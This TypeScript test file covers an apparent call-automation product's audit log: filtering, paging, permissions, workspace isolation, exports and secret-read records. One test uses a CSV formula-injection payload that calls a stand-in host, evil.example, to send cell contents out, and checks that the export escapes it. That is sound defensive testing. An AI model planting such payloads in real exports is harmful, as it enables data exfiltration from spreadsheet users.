import { auditActions, type Permission, permissions } from "@callhook/core";
import { aToolDraft, startEndpoint } from "@callhook/core/testing";
import { apiKeyRepository, auditRepository, defaultWorkspaceId } from "@callhook/db";
import { addWorkspace } from "@callhook/db/testing";
import { afterAll, beforeAll, expect, test } from "vitest";
import { bearer, createTestClient, refusalOf, startApi } from "../testing/start-api.ts";

const environment = { CALLHOOK_SECRET_KEY: "k".repeat(32) };
let api: Awaited<ReturnType<typeof startApi>>;
beforeAll(async () => {
  api = await startApi(environment);
});
afterAll(() => api.close());

async function clientWith(options: { workspaceId?: string; scopes?: Permission[]; userAgent?: string }) {
  const { workspaceId = defaultWorkspaceId, scopes = [...permissions], userAgent = "audit-test" } = options;
  const keys = apiKeyRepository({ database: api.database, workspaceId });
  const name = `Key ${crypto.randomUUID()}`;
  const { id, secret } = await keys.create({ name, scopes, expiresAt: null, requestsPerMinute: null });
  const headers = { ...bearer(secret), "user-agent": userAgent };
  return { id, name, client: createTestClient({ origin: api.url, headers }) };
}

test("an entry tells what was done, by whom, from where and to what", async () => {
  const { id, name, client } = await clientWith({ userAgent: "sync/2.1" });
  const tool = await client.tools.create.mutate(aToolDraft({ name: "Check area" }));
  const { items } = await client.auditLog.list.query({ subjectId: tool.id });
  expect(items).toEqual([
    {
      id: expect.stringMatching(/^audit_/),
      at: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/),
      action: "tool.created",
      actor: { kind: "api-key", id, name },
      subject: { kind: "tool", id: tool.id, name: "Check area" },
      ipAddress: "127.0.0.1",
      userAgent: "sync/2.1",
      details: { version: 1 },
    },
  ]);
});

test("the log is filtered by each of its filters, and read page by page", async () => {
  const { id: actorId, client } = await clientWith({});
  const names = ["One", "Two", "Three"];
  for (const name of names) await client.tools.create.mutate(aToolDraft({ name: `Filtered ${name}` }));
  await client.agents.update.mutate({ agentId: "receptionist", greeting: "Good day" });
  const subjects = async (filter: Parameters<typeof client.auditLog.list.query>[0]) =>
    (await client.auditLog.list.query(filter)).items.map(({ subject }) => subject?.name);
  const newestFirst = names.toReversed().map((name) => `Filtered ${name}`);
  expect(await subjects({ actorId, action: "tool.created" })).toEqual(newestFirst);
  expect(await subjects({ search: "FILTERED t" })).toEqual(newestFirst.slice(0, 2));
  expect(await subjects({ actorId, from: new Date(Date.now() + 60_000).toISOString() })).toEqual([]);
  expect(await subjects({ actorId, to: "2020-01-01T00:00:00+02:00" })).toEqual([]);
  const first = await client.auditLog.list.query({ search: "filtered", limit: 2 });
  const cursor = first.nextCursor ?? "";
  const second = await client.auditLog.list.query({ search: "filtered", limit: 2, cursor });
  expect([...first.items, ...second.items].map(({ subject }) => subject?.name)).toEqual(newestFirst);
  expect(second.nextCursor).toBeNull();
});

test("an action that does not exist is refused by name, and those that do are listed", async () => {
  expect(await api.client.auditLog.actions.query()).toEqual(auditActions);
  const body = { action: "tool.painted" };
  const response = await fetch(
    `${api.url}/trpc/auditLog.list?input=${encodeURIComponent(JSON.stringify(body))}`,
    {
      headers: bearer(api.apiKey),
    },
  );
  expect(response.status).toBe(400);
  expect(await response.text()).toContain('"path":"action"');
});

test("without its permission the log is neither read nor exported, and nothing is told of a neighbour", async () => {
  const scopes = permissions.filter((permission) => permission !== "audit-log:read");
  const { client } = await clientWith({ scopes });
  const requests = [
    client.auditLog.list.query(),
    client.auditLog.actions.query(),
    client.auditLog.export.mutate({ format: "json" }),
  ];
  const refusals = await Promise.all(requests.map(refusalOf));
  expect(refusals.map(({ code }) => code)).toEqual(requests.map(() => "not-allowed"));
  await addWorkspace({ database: api.database, id: "neighbour" });
  const neighbour = await clientWith({ workspaceId: "neighbour" });
  await neighbour.client.tools.create.mutate(aToolDraft({ name: "Theirs alone" }));
  expect((await api.client.auditLog.list.query({ search: "Theirs alone" })).items).toEqual([]);
  const { text } = await api.client.auditLog.export.mutate({ format: "csv" });
  expect(text).not.toContain("Theirs alone");
});

test("an export is on record before it is answered, with its form and size and not with what was searched for", async () => {
  const { id: actorId, client } = await clientWith({});
  for (const format of ["csv", "json"] as const)
    await client.auditLog.export.mutate({ format, search: "canary" });
  const { items } = await client.auditLog.list.query({ actorId, action: "audit-log.exported" });
  expect(items.map(({ details }) => details)).toEqual([
    { format: "json", entryCount: 0, isCut: false, filteredBy: ["search"] },
    { format: "csv", entryCount: 0, isCut: false, filteredBy: ["search"] },
  ]);
});

test("a JSON export holds the entries as they are listed, newest first, and says whether it was cut", async () => {
  const { id: actorId, client } = await clientWith({});
  await client.tools.create.mutate(aToolDraft({ name: "=1+1" }));
  await client.agents.update.mutate({ agentId: "assistant", greeting: crypto.randomUUID() });
  const listed = await client.auditLog.list.query({ actorId });
  const { text, ...file } = await client.auditLog.export.mutate({ format: "json", actorId });
  const exported: unknown = JSON.parse(text);
  expect(exported).toEqual({ exportedAt: expect.any(String), isCut: false, entries: listed.items });
  const fileName = expect.stringMatching(/^audit-log-\d{4}-\d\d-\d\d\.json$/);
  const contentType = "application/json; charset=utf-8";
  expect(file).toEqual({ fileName, contentType, entryCount: 2, isCut: false });
});

test("every reading of the signing secret is on record, and the secret itself is not", async () => {
  const { id: actorId, client } = await clientWith({});
  const { secret } = await client.workspace.signingSecret.query();
  const { items } = await client.auditLog.list.query({ actorId, action: "secret.read" });
  expect(items).toMatchObject([{ subject: { kind: "secret", name: "Signing secret" }, details: {} }]);
  expect(JSON.stringify(items)).not.toContain(secret);
});

test("where there is no secret to show, none was read", async () => {
  const keyless = await startApi();
  expect(await keyless.client.workspace.signingSecret.query()).toEqual({ secret: null });
  expect((await keyless.client.auditLog.list.query({ action: "secret.read" })).items).toEqual([]);
  await keyless.close();
});

test("a tool's test is on record with how it ended and where; a dry run, which sends nothing, is not", async () => {
  const endpoint = await startEndpoint();
  const { id: actorId, client } = await clientWith({});
  const saved = await client.tools.create.mutate(aToolDraft({ url: endpoint.url, parameters: [] }));
  const draft = aToolDraft({ name: "Draft", url: "http://10.0.0.1/", parameters: [] });
  await client.tools.test.mutate({ toolId: saved.id, arguments: {}, dryRun: true });
  await client.tools.test.mutate({ toolId: saved.id, arguments: {} });
  await client.tools.test.mutate({ draft, arguments: {} });
  const { items } = await client.auditLog.list.query({ actorId, action: "tool.tested" });
  expect(items.map(({ subject, details }) => ({ subject, details }))).toEqual([
    {
      subject: { kind: "tool", id: null, name: "Draft" },
      details: { status: "failed", reason: "blocked-destination", environment: "production" },
    },
    {
      subject: { kind: "tool", id: saved.id, name: saved.name },
      details: { status: "succeeded", environment: "production" },
    },
  ]);
  await endpoint.close();
});

test("a name that is a formula is text in the spreadsheet, and a user agent too", async () => {
  const attack = '=HYPERLINK("https://evil.example/?"&A1)';
  const { id: actorId, client } = await clientWith({ userAgent: `x;${attack}` });
  await client.tools.create.mutate(aToolDraft({ name: attack }));
  const { text, fileName, contentType } = await client.auditLog.export.mutate({ format: "csv", actorId });
  expect(text.startsWith("\uFEFFTime,Action,What happened,")).toBe(true);
  expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1)"');
  expect(text).toContain("x;'=HYPERLINK");
  expect(text).toContain(",tool.created,Tool created,api-key,");
  expect([fileName.endsWith(".csv"), contentType]).toEqual([true, "text/csv; charset=utf-8"]);
});

test("the log reads the same after what it tells of is gone", async () => {
  const { id: actorId, client } = await clientWith({});
  const tool = await client.tools.create.mutate(aToolDraft({ name: "Short-lived" }));
  await client.tools.remove.mutate({ toolId: tool.id });
  const scope = { database: api.database, workspaceId: defaultWorkspaceId };
  await apiKeyRepository(scope).revoke(actorId);
  const { items } = await auditRepository(scope).list({ actorId });
  expect(items.map(({ action, subject }) => [action, subject?.name])).toEqual([
    ["tool.removed", "Short-lived"],
    ["tool.created", "Short-lived"],
  ]);
});
